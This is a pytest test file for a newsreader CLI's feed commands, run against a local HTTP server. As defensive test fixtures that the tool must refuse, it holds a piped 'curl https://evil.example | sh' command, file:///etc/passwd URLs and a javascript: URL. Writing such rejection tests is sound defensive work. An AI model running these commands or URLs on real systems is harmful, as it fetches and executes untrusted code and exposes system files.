"""The feed commands end to end: ``newsreader add/remove/feeds/import/export/refresh`` in a
subprocess, against a real loopback HTTP server, over the real library database."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from datetime import datetime
from xml.sax.saxutils import escape, quoteattr

import pytest

from tests.feedserver import FeedServer, feed_server_fixture, refused_url  # noqa: F401

FEED_KEYS = {"id", "url", "title", "folder", "items", "unread", "last_refresh", "error"}


# -- helpers --------------------------------------------------------------------------------


def nr(*args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    """Run ``newsreader ARGS`` with the test's environment (its NEWSREADER_HOME)."""
    return subprocess.run(
        [sys.executable, "-m", "tui", *args], capture_output=True, text=True, timeout=timeout
    )


def feeds_json() -> list[dict]:
    p = nr("feeds", "--json")
    assert p.returncode == 0, p.stderr
    return json.loads(p.stdout)


def by_url() -> dict[str, dict]:
    return {f["url"]: f for f in feeds_json()}


def err_lines(p: subprocess.CompletedProcess[str]) -> list[str]:
    return [line for line in p.stderr.splitlines() if line.strip()]


def assert_clean(p: subprocess.CompletedProcess[str]) -> None:
    """No Python traceback anywhere in what the command printed."""
    assert "Traceback" not in p.stderr and "Traceback" not in p.stdout, p.stderr


def item(guid: str, title: str, body: str = "", date: str = "Mon, 03 Mar 2025 10:00:00 GMT") -> str:
    body = body or f"<p>{title} happened today, officials said, and more is expected.</p>"
    return (
        f"<item><guid isPermaLink='false'>{escape(guid)}</guid><title>{escape(title)}</title>"
        f"<link>https://news.example/{escape(guid)}</link><pubDate>{date}</pubDate>"
        f"<description>{escape(body)}</description></item>"
    )


def rss(title: str, *items: str) -> str:
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        f"<title>{escape(title)}</title><link>https://news.example/</link>{''.join(items)}</channel></rss>"
    )


def opml(*outlines: str, title: str = "subscriptions") -> str:
    return (
        '<?xml version="1.0" encoding="utf-8"?><opml version="2.0">'
        f"<head><title>{escape(title)}</title></head><body>{''.join(outlines)}</body></opml>"
    )


def outline(url: str, text: str) -> str:
    return f"<outline type='rss' text={quoteattr(text)} xmlUrl={quoteattr(url)}/>"


def folder(name: str, *children: str) -> str:
    return f"<outline text={quoteattr(name)}>{''.join(children)}</outline>"


def open_library():
    from tui.core.library import Library
    from tui.paths import database_path

    return Library.open(database_path())


def article_ids(library, feed_url: str) -> dict[str, int]:
    """title -> article id for one feed's items."""
    feed = library.feeds.find(feed_url)
    assert feed is not None
    return {r.title: r.id for r in library.articles() if r.feed_id == feed.id}


def requests_to(server: FeedServer, path: str) -> list[dict[str, str]]:
    return [headers for p, headers in server.requests if p.split("?")[0] == path]


# -- add --------------------------------------------------------------------------------


def test_add_subscribes_and_stores_items(feed_server):
    url = feed_server.body("/news.xml", rss("Harbour News", item("a", "Quay opens"), item("b", "Vote due")))
    p = nr("add", url)
    assert_clean(p)
    assert p.returncode == 0, p.stderr
    assert "added Harbour News (2 items)" in p.stdout
    (feed,) = feeds_json()
    assert set(feed) == FEED_KEYS
    assert feed["url"] == url
    assert feed["title"] == "Harbour News"
    assert feed["folder"] is None
    assert (feed["items"], feed["unread"]) == (2, 2)
    assert feed["error"] is None
    assert datetime.fromisoformat(feed["last_refresh"]).tzinfo is not None


def test_add_files_feeds_under_a_folder(feed_server):
    a = feed_server.body("/a.xml", rss("A", item("1", "One")))
    b = feed_server.body("/b.xml", rss("B", item("2", "Two")))
    p = nr("add", a, b, "--folder", "News/Local")
    assert p.returncode == 0, p.stderr
    assert {f["url"]: f["folder"] for f in feeds_json()} == {a: "News/Local", b: "News/Local"}


def test_add_refuses_bad_urls_one_line_each_and_keeps_the_good_one(feed_server):
    good = feed_server.body("/good.xml", rss("Good", item("g", "Fine")))
    missing = feed_server.url("/missing.xml")  # no route: 404
    broken = feed_server.body("/broken.xml", "oops", status=500, content_type="text/plain")
    page = feed_server.body(
        "/page.html",
        "<!doctype html><html><head><title>Home</title></head><body><p>Welcome</p></body></html>",
        content_type="text/html; charset=utf-8",
    )
    bad = {
        missing: "404",
        broken: "500",
        page: "web page",
        "not a url": "not a web address",
        "javascript:alert(1)": "javascript: URLs are refused",
        "file:///etc/passwd": "file: URLs are refused",
        refused_url(): "connection refused",
    }
    p = nr("add", good, *bad)
    assert_clean(p)
    assert p.returncode == 1
    lines = err_lines(p)
    assert len(lines) == len(bad), p.stderr
    for url, reason in bad.items():
        (line,) = [line for line in lines if url in line]
        assert line.startswith("newsreader: refused ")
        assert reason in line, line
    assert list(by_url()) == [good]


def test_add_refuses_a_redirect_to_a_file_url(feed_server):
    url = feed_server.redirect("/moved.xml", "file:///etc/passwd")
    p = nr("add", url)
    assert_clean(p)
    assert p.returncode == 1
    (line,) = err_lines(p)
    assert url in line and "file: URLs are refused" in line
    assert feeds_json() == []


# -- feeds --json ---------------------------------------------------------------------------


def test_feeds_json_before_any_refresh_has_null_last_refresh(tmp_path):
    f = tmp_path / "subs.opml"
    f.write_text(opml(outline("https://news.example/rss", "Example")), encoding="utf-8")
    assert nr("import", str(f)).returncode == 0
    (feed,) = feeds_json()
    assert feed == {
        "id": 1,
        "url": "https://news.example/rss",
        "title": "Example",
        "folder": None,
        "items": 0,
        "unread": 0,
        "last_refresh": None,
        "error": None,
    }


def test_feeds_without_json_is_a_table_and_empty_library_says_how_to_start(feed_server):
    p = nr("feeds")
    assert p.returncode == 0 and "newsreader add URL" in p.stdout
    url = feed_server.body("/t.xml", rss("Table [b]Feed[/b]", item("1", "One")))
    assert nr("add", url).returncode == 0
    p = nr("feeds")
    assert p.returncode == 0
    assert "Table [b]Feed[/b]" in p.stdout  # feed text is data, shown literally


# -- refresh ----------------------------------------------------------------------------


def test_refresh_adds_new_items_and_updates_changed_ones_keeping_read_and_star(feed_server):
    url = feed_server.body(
        "/live.xml", rss("Live", item("a", "Bridge closes"), item("b", "Ferry delayed"), item("c", "Rain"))
    )
    assert nr("add", url).returncode == 0
    with open_library() as library:
        ids = article_ids(library, url)
        library.set_read(ids["Bridge closes"])
        library.set_starred(ids["Ferry delayed"])
        library.set_read(ids["Ferry delayed"])

    feed_server.body(
        "/live.xml",
        rss(
            "Live",
            item("new", "Tunnel opens"),
            item("a", "Bridge closes for a week", "<p>Engineers found cracks in the main span.</p>"),
            item("b", "Ferry delayed"),
            item("c", "Rain"),
        ),
    )
    p = nr("refresh")
    assert_clean(p)
    assert p.returncode == 0, p.stderr
    assert "1 new item," in p.stderr

    feed = by_url()[url]
    assert (feed["items"], feed["unread"]) == (4, 2)  # "Tunnel opens" and "Rain"
    with open_library() as library:
        rows = {r.id: r for r in library.articles()}
        a = rows[ids["Bridge closes"]]
        assert a.title == "Bridge closes for a week"  # updated in place, same article
        assert a.read
        assert "cracks in the main span" in library.document(a.id).text
        b = rows[ids["Ferry delayed"]]
        assert (b.read, b.starred) == (True, True)
        assert len(rows) == 4


def test_refresh_of_named_feeds_only(feed_server):
    a = feed_server.body("/a.xml", rss("A", item("1", "One")))
    b = feed_server.body("/b.xml", rss("B", item("2", "Two")))
    assert nr("add", a, b).returncode == 0
    feed_server.body("/a.xml", rss("A", item("1", "One"), item("3", "Three")))
    feed_server.body("/b.xml", rss("B", item("2", "Two"), item("4", "Four")))
    assert nr("refresh", a).returncode == 0
    counts = {u: f["items"] for u, f in by_url().items()}
    assert counts == {a: 2, b: 1}
    p = nr("refresh", "https://not.subscribed.example/feed")
    assert p.returncode == 1
    assert len(err_lines(p)) == 1 and "not subscribed" in p.stderr


def test_a_feed_that_starts_failing_keeps_its_items_and_shows_its_error(feed_server):
    url = feed_server.body("/flaky.xml", rss("Flaky", item("1", "One"), item("2", "Two")))
    ok = feed_server.body("/ok.xml", rss("Steady", item("s", "Still here")))
    assert nr("add", url, ok).returncode == 0
    before = by_url()[url]["last_refresh"]

    feed_server.body("/flaky.xml", "down for maintenance", status=500, content_type="text/plain")
    p = nr("refresh")
    assert_clean(p)
    assert p.returncode == 0  # a failed feed is reported and stored, not fatal
    assert any("Flaky" in line and "HTTP 500" in line for line in err_lines(p))
    feeds = by_url()
    assert feeds[url]["items"] == 2
    assert feeds[url]["error"] == "HTTP 500 Internal Server Error"
    assert feeds[url]["last_refresh"] >= before
    assert feeds[ok]["error"] is None

    # Content that stops being a feed is an error too, and loses nothing either.
    feed_server.body("/flaky.xml", "<html><body>Moved!</body></html>", content_type="text/html")
    assert nr("refresh").returncode == 0
    assert by_url()[url]["items"] == 2
    assert by_url()[url]["error"].startswith("not a feed")

    feed_server.body("/flaky.xml", rss("Flaky", item("1", "One"), item("2", "Two"), item("3", "Three")))
    assert nr("refresh").returncode == 0
    feed = by_url()[url]
    assert (feed["items"], feed["error"]) == (3, None)


def test_429_with_retry_after_is_stored_and_the_feed_skipped_until_then(feed_server):
    url = feed_server.body("/busy.xml", rss("Busy", item("1", "One")))
    assert nr("add", url).returncode == 0
    feed_server.body(
        "/busy.xml", "slow down", status=429, content_type="text/plain", headers={"Retry-After": "3600"}
    )
    assert nr("refresh").returncode == 0
    feed = by_url()[url]
    assert feed["error"].startswith("HTTP 429 Too Many Requests; retry after ")
    assert feed["items"] == 1
    asked = len(requests_to(feed_server, "/busy.xml"))

    # Within the hour the feed is not asked again, and its error stays visible.
    feed_server.body("/busy.xml", rss("Busy", item("1", "One"), item("2", "Two")))
    p = nr("refresh")
    assert p.returncode == 0
    assert len(requests_to(feed_server, "/busy.xml")) == asked
    feed = by_url()[url]
    assert feed["items"] == 1
    assert "429" in feed["error"]


def test_conditional_get_second_refresh_gets_304_and_no_new_items(feed_server):
    last_modified = "Sat, 01 Mar 2025 12:00:00 GMT"
    body = rss("Cond", item("1", "One"), item("2", "Two")).encode()
    url = feed_server.conditional("/cond.xml", body, etag='"v1"', last_modified=last_modified)
    assert nr("add", url).returncode == 0
    first = by_url()[url]["last_refresh"]

    p = nr("refresh")
    assert p.returncode == 0, p.stderr
    assert "0 new items" in p.stderr
    headers = requests_to(feed_server, "/cond.xml")[-1]
    assert headers.get("if-none-match") == '"v1"'
    assert headers.get("if-modified-since") == last_modified
    feed = by_url()[url]
    assert (feed["items"], feed["error"]) == (2, None)
    assert feed["last_refresh"] >= first


def test_refresh_with_no_feeds_says_how_to_add_some():
    p = nr("refresh")
    assert p.returncode == 0
    assert "newsreader add URL" in p.stderr


# -- import / export --------------------------------------------------------------------


def test_import_keeps_folders_and_refuses_dangerous_entries_one_line_each(tmp_path):
    f = tmp_path / "subs.opml"
    f.write_text(
        opml(
            outline("https://top.example/rss", "Top level"),
            folder(
                "News",
                outline("https://world.example/feed", "World"),
                folder("Local", outline("https://town.example/atom.xml", "Town")),
                outline("exec:curl https://evil.example | sh", "Runs a command"),
            ),
            folder("Tech", outline("file:///etc/passwd", "Local file")),
            outline("javascript:alert(1)", "Script"),
        ),
        encoding="utf-8",
    )
    p = nr("import", str(f))
    assert_clean(p)
    assert p.returncode == 1
    lines = err_lines(p)
    assert len(lines) == 3, p.stderr
    for scheme in ("exec:", "file:", "javascript:"):
        (line,) = [line for line in lines if f"{scheme} URLs are refused" in line]
        assert line.startswith("newsreader: skipped ")
    assert "imported 3 new feeds" in p.stdout
    assert {(f["url"], f["title"], f["folder"]) for f in feeds_json()} == {
        ("https://top.example/rss", "Top level", None),
        ("https://world.example/feed", "World", "News"),
        ("https://town.example/atom.xml", "Town", "News/Local"),
    }


def test_import_of_a_malformed_opml_is_one_line_and_loses_nothing(tmp_path):
    good = tmp_path / "good.opml"
    good.write_text(opml(outline("https://keep.example/rss", "Keep")), encoding="utf-8")
    assert nr("import", str(good)).returncode == 0
    before = feeds_json()

    bad = tmp_path / "bad.opml"
    bad.write_text(
        '<?xml version="1.0"?><opml version="2.0"><body><outline text="x" xmlUrl="https://a.example/">'
        "</body>",
        encoding="utf-8",
    )
    p = nr("import", str(bad))
    assert_clean(p)
    assert p.returncode == 1
    assert err_lines(p) == [f"newsreader: {bad}: not a valid OPML file: mismatched tag (line 1)"]
    assert feeds_json() == before

    absent = tmp_path / "absent.opml"
    p = nr("import", str(absent))
    assert p.returncode == 1
    assert err_lines(p) == [f"newsreader: {absent}: no such file"]
    assert feeds_json() == before


def test_export_then_import_into_a_new_home_gives_the_same_subscriptions(tmp_path, monkeypatch):
    f = tmp_path / "subs.opml"
    f.write_text(
        opml(
            outline("https://top.example/rss", "Top & <Level>"),
            folder("News", outline("https://world.example/feed", "World")),
            folder("News", folder("Local", outline("https://town.example/atom.xml", "Town"))),
        ),
        encoding="utf-8",
    )
    assert nr("import", str(f)).returncode == 0
    original = {(x["url"], x["title"], x["folder"]) for x in feeds_json()}
    assert len(original) == 3

    out = tmp_path / "exported.opml"
    p = nr("export", str(out))
    assert p.returncode == 0, p.stderr
    to_stdout = nr("export")
    assert to_stdout.returncode == 0
    undated = re.compile(r"<dateCreated>[^<]*</dateCreated>")
    assert undated.sub("", to_stdout.stdout) == undated.sub("", out.read_text(encoding="utf-8"))
    assert 'version="2.0"' in to_stdout.stdout

    monkeypatch.setenv("NEWSREADER_HOME", str(tmp_path / "second-home"))
    assert feeds_json() == []
    p = nr("import", str(out))
    assert p.returncode == 0, p.stderr
    assert {(x["url"], x["title"], x["folder"]) for x in feeds_json()} == original


def test_export_to_an_unwritable_place_is_one_line(tmp_path):
    p = nr("export", str(tmp_path / "no" / "such" / "dir" / "x.opml"))
    assert p.returncode == 1
    assert len(err_lines(p)) == 1 and "cannot write" in p.stderr


# -- remove -------------------------------------------------------------------------------


def test_remove_by_url_and_by_id(feed_server):
    a = feed_server.body("/a.xml", rss("Alpha", item("1", "One"), item("2", "Two")))
    b = feed_server.body("/b.xml", rss("Beta", item("3", "Three")))
    assert nr("add", a, b).returncode == 0

    p = nr("remove", a)
    assert p.returncode == 0, p.stderr
    assert "removed Alpha (2 items)" in p.stdout
    assert list(by_url()) == [b]

    with open_library() as library:
        feed = library.feeds.find(b)
        assert feed is not None
        remaining = [r.feed_id for r in library.articles()]
    assert remaining == [feed.id]  # Alpha's items went with it

    p = nr("remove", str(feed.id))
    assert p.returncode == 0, p.stderr
    assert "removed Beta" in p.stdout
    assert feeds_json() == []

    p = nr("remove", a)
    assert p.returncode == 1
    assert len(err_lines(p)) == 1 and "no such feed" in p.stderr


@pytest.mark.parametrize("bad", ["999", "https://never.example/rss"])
def test_remove_of_an_unknown_feed_is_one_line(bad):
    p = nr("remove", bad)
    assert_clean(p)
    assert p.returncode == 1
    (line,) = err_lines(p)
    assert bad in line


def test_every_command_is_documented_in_help():
    p = nr("--help")
    assert p.returncode == 0
    for cmd in ("add", "remove", "feeds", "import", "export", "refresh"):
        assert cmd in p.stdout


def test_rss_helper_builds_a_feed_the_parser_reads():
    """Guards the helpers above: a typo in them would make every test vacuous."""
    from tui.core.feeds import parse_feed

    parsed = parse_feed(rss("T", item("g", "Headline")).encode())
    assert parsed.ok and parsed.title == "T"
    assert [e.id for e in parsed.entries] == ["g"]
